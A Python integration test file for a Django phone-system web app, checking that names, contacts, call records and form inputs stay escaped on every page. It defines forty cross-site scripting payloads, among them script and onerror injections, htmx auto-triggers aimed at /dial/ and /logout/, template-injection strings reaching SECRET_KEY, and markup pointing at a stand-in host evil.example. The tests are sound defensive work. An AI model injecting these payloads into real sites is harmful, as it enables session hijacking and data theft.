"""Forty ways to be more than text, wherever somebody's text is shown (T-XSS-01, T-XSS-02, T-XSS-03)."""

from collections.abc import Iterator
from dataclasses import replace
from html import escape
from html.parser import HTMLParser

import pytest
from django.http import HttpResponse

from accounts import journal
from accounts.journal import Event, Origin
from accounts.models import Department, Session, User
from history.models import Note, PostIt, Record
from pbx.states import LegState
from phonebook.models import Contact, ContactNumber
from tests.integration.cti_pages.exchange import STARTED, Exchange, a_leg
from tests.integration.doors import DOORS
from tests.integration.doors.kinds import Door, Person, Whose
from tests.integration.matrix.company import EXTENSIONS, Company
from tests.integration.matrix.stored import undone
from tests.integration.matrix.walking import go

pytestmark = pytest.mark.any_database  # templates decide what is text

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/a.js>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "x onclick=alert(1) y",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=secret>",
    "<object data=//evil.example>",
    "<embed src=//evil.example>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<!-- <script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<button hx-post=/dial/ hx-trigger=load>",
    "<div hx-get=/settings/services/ hx-trigger=load>",
    "' hx-get='/dial/' hx-trigger='load",
    '" hx-on:load="alert(1)',
    "<div data-hx-post=/logout/ hx-trigger=load>",
    "{{ request.session.session_key }}",
    "{% load static %}{{ settings.SECRET_KEY }}",
    "${alert(1)}",
    "`-alert(1)-`",
    "\\u003cscript\\u003ealert(1)",
    "&lt;script&gt;alert(1)&#60;/script&#62;",
)
ADDRESSES = frozenset({"href", "src", "action", "formaction", "data", "poster", "hx-get", "hx-post", "hx-push-url"})
pages = [door for door in DOORS if "GET" in door.verbs and door.is_closed]


class Skeleton(HTMLParser):
    """The shapes of a page's elements, and the addresses that it leads to."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.shapes: set[tuple[str, ...]] = set()
        self.addresses: set[str] = set()
        self.forms = 0
        self.deepest = 0
        """How many forms stand within each other; a browser closes both where the inner one ends."""
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.shapes.add((tag, *sorted(name for name, _value in attrs)))
        self.addresses |= {value or "" for name, value in attrs if name in ADDRESSES}
        if tag == "form":
            self.forms += 1
            self.deepest = max(self.deepest, self.forms)

    def handle_endtag(self, tag: str) -> None:
        if tag == "form":
            self.forms -= 1


def test_there_are_forty_ways() -> None:
    assert len(set(PAYLOADS)) == 40


def test_the_skeleton_tells_markup_from_text() -> None:
    assert Skeleton("<p>&lt;img onerror=x&gt;</p>").shapes == {("p",)}
    assert Skeleton("<p><img onerror=x src=y>").shapes == {("p",), ("img", "onerror", "src")}


def test_no_form_stands_within_another(people: Company, exchange: Exchange) -> None:
    User.objects.filter(extension=EXTENSIONS[Person.ADMINISTRATOR]).update(mobile="+48601570900")
    exchange.calls(EXTENSIONS[Person.ADMINISTRATOR], a_leg("c-1", LegState.TALKING, "0601570947", answered=True))
    nested = {page for page, text in texts(people) if Skeleton(text).deepest > 1}
    assert not nested


def test_t_xss_01_t_xss_02_t_xss_03_text_stays_text_on_every_page(people: Company, exchange: Exchange) -> None:
    write_everywhere(exchange, [f"evil script alert number {n:02}" for n in range(len(PAYLOADS))])
    harmless: dict[str, set[tuple[str, ...]]] = {}
    for page, text in texts(people):
        harmless.setdefault(page, set()).update(Skeleton(text).shapes)
    write_everywhere(exchange, PAYLOADS)
    seen = ""
    for page, text in texts(people):
        seen += text
        hostile = Skeleton(text)
        assert not hostile.shapes - harmless[page], page
        led = {
            address for address in hostile.addresses if address.startswith(("javascript:", "data:text", "//", "http"))
        }
        assert not led, page
    shown = [payload for payload in PAYLOADS if escape(payload) in seen]
    assert shown == list(PAYLOADS), "each was shown somewhere"


def test_t_xss_01_a_callers_name_in_the_title_is_the_attribute_of_an_element(
    people: Company, exchange: Exchange
) -> None:
    for payload in PAYLOADS:
        exchange.calls("1011", a_leg("c-1", LegState.RINGING, "0601570947", payload))
        text = people.browser(Person.EMPLOYEE).get("/live/strip/").content.decode()
        assert f'data-title="{escape(payload)} is calling"' in text


def texts(people: Company) -> Iterator[tuple[str, str]]:
    """Every page that an administrator can read, about everybody that it can be about."""
    client = people.browser(Person.ADMINISTRATOR)
    for door in pages:
        for extension in everybody()[::9] if "{extension}" in door.path else [""]:
            names = people.thing(Person.ADMINISTRATOR, Whose.OWN).names | (
                {"extension": extension} if extension else {}
            )
            response = client.get(door.path.format(**names), query_params=dict(door.query) or None)
            yield door.name, response.content.decode() if is_page(response) else ""
    for words in ("q=alert", "q=script", "number=alert&pick=1"):
        yield "cti:search", client.get(f"/search/?{words}", headers={"HX-Request": "true"}).content.decode()


def is_page(response: HttpResponse) -> bool:
    """Not a file, nor what a script reads."""
    return not response.streaming and response.headers.get("Content-Type", "").startswith("text/html")


def everybody() -> list[str]:
    return [str(2000 + n) for n in range(len(PAYLOADS))]


def write_everywhere(exchange: Exchange, words: tuple[str, ...] | list[str]) -> None:
    """Somebody's name, description and department, contacts, calls, browsers and deeds are called `words`."""
    administrator = User.objects.get(extension=EXTENSIONS[Person.ADMINISTRATOR])
    legs = []
    for n, (extension, word) in enumerate(zip(everybody(), words, strict=True)):
        department, _new = Department.objects.update_or_create(pk=5000 + n, defaults={"name": word})
        fields = {"comment": word[:60], "description": f"d {word}", "department": department, "email": "a@example.com"}
        user, _new = User.objects.update_or_create(extension=extension, defaults=fields)
        contact, _new = Contact.objects.update_or_create(
            pk=5000 + n,
            defaults={"owner": administrator, "name": word, "company": word, "haystack": f" {word.lower()}"},
        )
        ContactNumber.objects.update_or_create(
            contact=contact, defaults={"number": f"+486015709{n:02}", "label": word[:40]}
        )
        Session.objects.update_or_create(
            session_key=f"browser{n:02}".ljust(32, "x"),
            defaults={"user": administrator, "agent": f"Mozilla/5.0 {word}", "expire_date": STARTED.replace(year=2100)},
        )
        journal.write(Event.EMAIL_CHANGED, user, Origin(user), before=word, after=word)
        about = {"number": f"+486015709{n:02}", "text": word}
        for place, author in enumerate((administrator, user)):
            given = {"author": author, "shared": True, "remind_at": STARTED, **about}
            Note.objects.update_or_create(pk=5000 + 2 * n + place, defaults=given)
        PostIt.objects.update_or_create(pk=5000 + n, defaults={"author": user, "to": administrator, **about})
        for outcome in ("missed", "incoming"):
            Record.objects.update_or_create(
                pbx="lab",
                origin=f"{outcome}{n}",
                extension=administrator.extension,
                direction="in",
                defaults={
                    "call": f"call{n}",
                    "outcome": outcome,
                    "number": f"+486015700{n:02}",
                    "name": word,
                    "started": STARTED,
                    "answered": STARTED,
                    "ended": STARTED,
                    "voicemail": True,
                },
            )
        legs.append(a_leg(f"x-{n}", LegState.RINGING, "", word))
    exchange.calls(administrator.extension, *legs)


@pytest.mark.parametrize("door", [door for door in DOORS if "POST" in door.verbs], ids=lambda door: door.name)
def test_t_xss_02_what_a_form_gives_back_is_text(door: Door, people: Company) -> None:
    """Nothing typed is lost on an error, and nothing of it is more than text."""
    for who in [Person.ADMINISTRATOR] if door.is_closed else [Person.STRANGER, Person.ADMINISTRATOR]:
        harmless = given_back(people, who, door, "Nowak").shapes
        for payload in PAYLOADS[2:10]:
            strange = given_back(people, who, door, payload).shapes - harmless
            if strange:  # refused, perhaps, for its length alone, or for its signs
                strange -= given_back(people, who, door, "n" * len(payload)).shapes
                strange -= given_back(people, who, door, ("n /;é" * len(payload))[: len(payload)]).shapes
            assert strange == set(), payload


def given_back(people: Company, who: Person, door: Door, word: str) -> Skeleton:
    names = [*door.form, "extension", "number", "email", "address", "description", "q", "next"]
    wrong = replace(door, form=dict.fromkeys(names, word.replace("{", "{{").replace("}", "}}")))
    with undone():
        answer = go(people.browser(who), wrong, "POST", people.thing(who, Whose.OWN))
        return Skeleton("" if answer.streaming else answer.content.decode())
